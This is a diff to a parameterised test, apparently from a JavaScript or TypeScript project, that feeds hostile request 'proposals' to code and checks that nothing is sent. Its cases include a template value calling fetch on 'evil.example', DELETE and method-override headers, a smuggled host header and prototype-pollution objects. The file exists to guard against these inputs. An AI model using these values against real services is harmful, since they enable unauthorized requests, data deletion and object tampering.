@@ -121,6 +121,11 @@ test.each<[string, object]>([
   ['everything', { queryParams: { house: '<<$string($)>>' } }],
   ['code', { queryParams: { house: '<<(s) => fetch("http://evil.example")>>' } }],
   ['another method', { method: 'DELETE' }],
+  [
+    'another method in disguise',
+    { headers: { 'X-HTTP-Method-Override': 'DELETE' }, queryParams: { house: '<<barn>>' } },
+  ],
+  ['another host in disguise', { headers: { host: '<<barn>>' }, queryParams: { house: '<<barn>>' } }],
   ['a value that is made up', { queryParams: { house: 'villa' } }],
   ['members of the prototype', { __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } }],
 ])('sends nothing for a hostile proposal: %s', async (_what, over) => {
